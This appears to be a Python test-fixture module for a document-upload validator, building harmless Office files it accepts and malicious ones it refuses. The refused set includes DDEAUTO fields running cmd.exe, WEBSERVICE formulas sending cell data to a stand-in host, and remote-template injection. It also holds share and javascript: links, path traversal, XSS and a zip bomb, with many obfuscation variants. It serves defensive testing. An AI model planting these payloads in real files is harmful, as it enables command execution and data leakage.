"""Small true Office files and pictures, written out by hand, and what comes dressed as one."""

import io
import zipfile

from PIL import Image

_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types><Override PartName="/x.xml" ContentType="{}"/>{}</Types>'
_LINK = (
    '<Relationships><Relationship Id="r1" TargetMode="External" Target="https://x.vn/a" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>'
)
MAIN = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
}


def office(
    kind: str = "docx", *, more: dict[str, str | bytes] | None = None, types: str = "", links: str = ""
) -> bytes:
    """An Office file of ``kind``; ``links``: the kind of a relationship that leads outside."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _TYPES.format(types or MAIN[kind], ""),
        "x.xml": "<x/>",
        "_rels/.rels": _LINK.format(links) if links else "<Relationships/>",
    }
    return archive(parts | (more or {}))


def archive(parts: dict[str, str | bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in parts.items():
            made.writestr(name, text)
    return file.getvalue()


def picture(kind: str = "PNG") -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(file, kind)
    return file.getvalue()


def relation(attributes: str, *, name: str = "_rels/.rels", before: str = "", encoding: str = "utf-8") -> bytes:
    """A Word file whose one relationship is written by hand; ``before`` it what an XML file may begin with."""
    text = f'{before}<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" {attributes}/></Relationships>'
    return office(more={"_rels/.rels": "<Relationships/>"} | {name: text.encode(encoding)})


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def word(inside: str, *, name: str = "word/document.xml", encoding: str = "utf-8") -> bytes:
    """A Word file whose text, or another part of it, is ``inside``."""
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return office(more={name: f"{head}<w:document {_W}><w:p>{inside}</w:p></w:document>".encode(encoding)})


def field(*words: str) -> str:
    """A field whose words come in several runs; a word that is a field itself stands there as it is."""
    runs = (text if text.startswith("<") else f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in words)
    return f'<w:fldChar w:fldCharType="begin"/>{"".join(runs)}<w:fldChar w:fldCharType="end"/>'


def sheet(formula: str, *, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A workbook with one formula."""
    text = f"<worksheet {_S}><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    return office("xlsx", more={name: text})


def workbook(inside: str, *, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A workbook with ``inside`` in a part of it."""
    return office("xlsx", more={name: f"<worksheet {_S}>{inside}</worksheet>"})


def hyperlink(address: str) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    return relation(f'Type="{kind}" Target="{address}" TargetMode="External"')


_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_TEMPLATE = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
_OUTSIDE = f'{_TEMPLATE} Target="https://x.vn/a" TargetMode="External"'
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"

_DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
_CALL = 'WEBSERVICE("https://x.vn/")'
_RUNS, _SHARE = "tự gọi chương trình", "liên kết đến tệp"
_CHUNK = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="a.html"'

# What is taken: links of the web and fields of every letter.
TAKEN = {
    "Word with a link": hyperlink("https://dichvucong.gov.vn"),
    "Word with a mailbox": hyperlink("mailto:so@example.vn"),
    "Word with a link within": hyperlink("#chuong-2"),
    "Word with a link in a field": word(field(' HYPERLINK "https://x.vn/dde/link" ')),
    "Word with a link within in a field": word(field(r' HYPERLINK \l "_Toc1" ')),
    "Word with pages and a table of contents": word(field(r" PAGE ") + field(r' TOC \o "1-3" ') + field(" LINKS ")),
    "Word with a number of a field": word(field(" = ", field(" PAGE "), " + 1 ")),
    "Word that speaks of DDEAUTO": word(r"<w:t>DDEAUTO, INCLUDETEXT, \\\\host\\share, altChunk</w:t>"),
    "Word with a picture once kept on a share": word(r'<w:docPr descr="\\\\host\\a.png"/>'),
    "Excel with formulas": sheet('SUM(A1:A9)&amp;"a|b!"'),
    "Excel with a sum over another sheet": sheet("SUM('Tháng 1'!A1:A9)/'Tháng 2'!A1"),
    "Excel with a sheet whose name holds a stroke": sheet("SUM('Thu|chi'!A1:A9,'Quý 1|2'!$B:$B)/'Thu|chi'!$A$1"),
    "Excel with a list to choose from": workbook(
        "<dataValidation><formula1>'Danh mục'!$A$1:$A$9</formula1></dataValidation>"
    ),
    "Excel with a remark in its XML": workbook("<!-- a --><row/>"),
    "Excel with a link": sheet('HYPERLINK("https://x.vn","x")'),
}

# name: (bytes, a piece of what the refusal says)
REFUSED = {
    "nothing": (b"", "Chỉ nhận PDF"),
    "a program": (b"MZ\x90\x00" + b"\0" * 60, "Chỉ nhận PDF"),
    "a web page": (b"<!doctype html><script>alert(1)</script>", "Chỉ nhận PDF"),
    "a picture of SVG": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "Chỉ nhận PDF"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "lưu thành kiểu mới"),
    "a PDF cut off": (b"%PDF-1.4\n1 0 obj", "không phải PDF"),
    "a picture cut off": (picture()[:40], "hỏng"),
    "a web page dressed as a JPEG": (b"\xff\xd8\xff<script>alert(1)</script>", "hỏng"),
    "an archive of anything": (archive({"a.html": "<script>"}), "hỏng"),
    "an Office file of no known kind": (office(types="application/x-unknown"), "nén hoặc kiểu lạ"),
    "an Office file cut off": (office()[:-30], "hỏng"),
    "Word with macros": (office(types=MACROS), "macro"),
    "Word with macros under a plain type": (office(more={"word/vbaProject.bin": b"x"}), "macro"),
    "Word with an object inside": (office(more={"word/embeddings/oleObject1.bin": b"x"}), "macro"),
    "Word with a control": (office(more={"word/activeX/activeX1.xml": "<x/>"}), "macro"),
    "Word with a template from elsewhere": (office(links="attachedTemplate"), "lấy từ nơi khác"),
    "Word with an object from elsewhere": (office(links="oleObject"), "lấy từ nơi khác"),
    "Word with a part outside": (office(more={"../../etc/passwd": "x"}), "lạ"),
    "a template whose mode is written with an entity": (
        relation(f'{_TEMPLATE} Target="https://x.vn/a" TargetMode="&#69;xternal"'),
        "lấy từ nơi khác",
    ),
    "a template behind a sign of XML in its address": (
        relation(f'{_TEMPLATE} Target="https://x.vn/a>b" TargetMode="External"'),
        "lấy từ nơi khác",
    ),
    "a template whose type hides a harmless one": (
        relation(f'{_OUTSIDE} x="" Id2="Type=\'/hyperlink\'"'),
        "lấy từ nơi khác",
    ),
    "a template in another writing": (relation(_OUTSIDE, encoding="utf-16"), "lấy từ nơi khác"),
    "a template in a list of another name": (relation(_OUTSIDE, name="_RELS/b.RELS"), "lấy từ nơi khác"),
    "a template in a list of no known name": (relation(_OUTSIDE, name="word/b.xml"), "lấy từ nơi khác"),
    "a template of a mode that is none": (relation(f'{_TEMPLATE} Target="a" TargetMode="external"'), "lấy từ nơi khác"),
    "a template from elsewhere that calls itself internal": (
        relation(f'{_TEMPLATE} Target="file://x/a" TargetMode="Internal"'),
        "lấy từ nơi khác",
    ),
    "a template on another machine": (relation(f'{_TEMPLATE} Target="\\\\x\\a"'), "lấy từ nơi khác"),
    "a list with a document type": (
        relation(_OUTSIDE, before='<!DOCTYPE a [<!ENTITY e "External">]>'),
        "thành phần lạ",
    ),
    "a part with a document type": (office(more={"word/a.xml": "<!DOCTYPE a><a/>"}), "thành phần lạ"),
    "a list that is no XML": (office(more={"word/_rels/a.rels": "<a"}), "hỏng"),
    "an object under a harmless name": (
        relation('Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="a.dat"'),
        "macro",
    ),
    "macros whose type is written with an entity": (
        office(types=MACROS.replace("macroEnabled", "macro&#69;nabled")),
        "macro",
    ),
    "two parts of one name": (office(more={"X.XML": "<x/>"}), "thành phần lạ"),
    "spaces before the first element": (office(more={"word/a.xml": " " * 200_000 + "<a/>"}), "thành phần lạ"),
    "a bomb of a list": (office(more={"_rels/b.rels": b"\0" * 1_000_000}), "lớn bất thường"),
    "Word with a link to a share": (hyperlink(r"\\host\a"), _SHARE),
    "Word with a link to a file": (hyperlink("file:///c:/windows/system32/cmd.exe"), _SHARE),
    "Word with a link that is a script": (hyperlink("javascript:alert(1)"), _SHARE),
    "Word with another page inside": (relation(_CHUNK), "lấy từ nơi khác"),
    "Word with a place for another page": (word('<w:altChunk w:id="a"/>'), "lấy từ nơi khác"),
    "Excel with tables asked from elsewhere": (
        relation(_CHUNK.replace("aFChunk", "connections")),
        "lấy từ nơi khác",
    ),
    "Word with DDEAUTO": (word(field(_DDE)), _RUNS),
    "Word with DDE": (word(field(' dde "cmd" ')), _RUNS),
    "Word with DDE in several runs": (word(field(" D", "DE", "AUTO x")), _RUNS),
    "Word with DDE in signs of XML": (word(field("&#68;&#x44;E x")), _RUNS),
    "Word with DDE in an attribute": (word(f"<w:fldSimple w:instr='{_DDE}'/>"), _RUNS),
    "Word with DDE outside of a field": (word(f"<w:instrText>{_DDE}</w:instrText>"), _RUNS),
    "Word with DDE in a field that never ends": (
        word(field(_DDE).partition('<w:fldChar w:fldCharType="end')[0]),
        _RUNS,
    ),
    "Word with DDE behind a field": (word(field(field(" QUOTE 68 68 69 "), "AUTO x")), _RUNS),
    "Word with DDE made up by a field": (word(field(" D", field(" QUOTE 68 69 "), " x")), _RUNS),
    "Word with DDE in another writing": (word(field(_DDE), encoding="utf-16"), _RUNS),
    "Word with DDE in the head of a page": (word(field(_DDE), name="word/header1.xml"), _RUNS),
    "Word with DDE in a part of no known name": (word(field(_DDE), name="word/media/image1.png"), _RUNS),
    "Word with DDE behind much text": (word("<w:t>" + "a b " * 500_000 + "</w:t>" + field(_DDE)), _RUNS),
    "Word with a picture from elsewhere": (word(field(r' INCLUDEPICTURE "https://x.vn/a.png" \d ')), _RUNS),
    "Word with a text from elsewhere": (word(field(r' INCLUDETEXT "\\\\host\\a" ')), _RUNS),
    "Word with a field that links to a share": (word(field(r' HYPERLINK "\\\\host\\a" ')), _SHARE),
    "Word with an old picture on a share": (word(r'<w:pict src="\\host\a.png"/>'), _SHARE),
    "Word with an old picture in signs of XML": (word('<w:pict src="&#102;ile://host/a.png"/>'), _SHARE),
    "Excel with DDE": (sheet("cmd|'/c calc'!A1"), _RUNS),
    "Excel with DDE of a plain topic": (sheet("SUM(1)+rundll32|'a'!A1"), _RUNS),
    "Excel with DDE beside a sheet's name with a stroke": (sheet("'Thu|chi'!A1+cmd|'/c calc'!A1"), _RUNS),
    "Excel with DDE behind a sheet's name": (sheet("SUM('Thu|chi'!cmd|'a'!A1)"), _RUNS),
    "Excel with DDE in signs of XML": (sheet("cmd&#124;'/c calc'!A1"), _RUNS),
    "Excel with a call of the web": (sheet('WEBSERVICE("https://x.vn/"&amp;A1)'), _RUNS),
    "Excel with a link to a share": (sheet(r'HYPERLINK("\\host\a","x")'), _SHARE),
    "Excel with a call behind a long text": (sheet(f'"{"a" * 250}"&amp;{_CALL}'), _RUNS),
    "Excel with a call behind a long sum": (sheet(f"{'1+' * 1_500}{_CALL}"), _RUNS),
    "Excel with a call in a section": (sheet(f"<![CDATA[{_CALL}]]>"), _RUNS),
    "Excel with a call cut by a remark": (sheet(_CALL.replace("B", "B<!-- -->")), _RUNS),
    "Excel with a call cut by an instruction": (sheet(_CALL.replace("B", "B<?a b?>")), _RUNS),
    "Excel with a call under another name of its space": (
        workbook(f'<a-b:f xmlns:a-b="{_S.partition(chr(34))[2].rstrip(chr(34))}">{_CALL}</a-b:f>'),
        _RUNS,
    ),
    "Excel with a call behind a name": (
        workbook(f'<definedName name="a">{_CALL}</definedName>', name="xl/workbook.xml"),
        _RUNS,
    ),
    "Excel with a call that colours a cell": (workbook(f"<formula>{_CALL}</formula>"), _RUNS),
    "Excel with a call that checks a cell": (workbook(f"<formula1>{_CALL}=1</formula1>"), _RUNS),
    "Excel with a call that fills a column": (
        workbook(f"<calculatedColumnFormula>{_CALL}</calculatedColumnFormula>", name="xl/tables/table1.xml"),
        _RUNS,
    ),
    "Excel with a picture of the web": (sheet('_xlfn.IMAGE("https://x.vn/a.png")'), _RUNS),
    "Excel with a table of the web": (sheet('IMPORTXML("https://x.vn/a","//b")'), _RUNS),
    "Excel with a cell of another machine": (sheet(r"'\\host\a\[b.xlsx]C'!A1"), _SHARE),
    "Excel with a cell of another file": (sheet("'file:///c:/b.xlsx'!A1"), _SHARE),
    "Excel with a cell of the web": (sheet("&apos;https://x.vn/[b.xlsx]C&apos;!A1"), _SHARE),
    "Word with an object under a harmless name and kind": (
        office(more={"word/media/image1.jpg": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600}),
        "macro",
    ),
    "Word with a program inside": (office(more={"word/a.dat": b"MZ\x90\x00" + b"\0" * 60}), "macro"),
    "Excel with a link to a program": (
        office(
            "xlsx",
            more={
                "xl/externalLinks/externalLink1.xml": f'<externalLink {_S}><ddeLink ddeService="cmd"/></externalLink>'
            },
        ),
        _RUNS,
    ),
    "PowerPoint that starts a program": (
        office("pptx", more={"ppt/slides/slide1.xml": '<p><hlinkClick action="ppaction://program"/></p>'}),
        _RUNS,
    ),
    "PowerPoint that starts a program in capitals": (
        office("pptx", more={"ppt/slides/slide1.xml": '<p><hlinkClick action="PPAction://Program"/></p>'}),
        _RUNS,
    ),
}
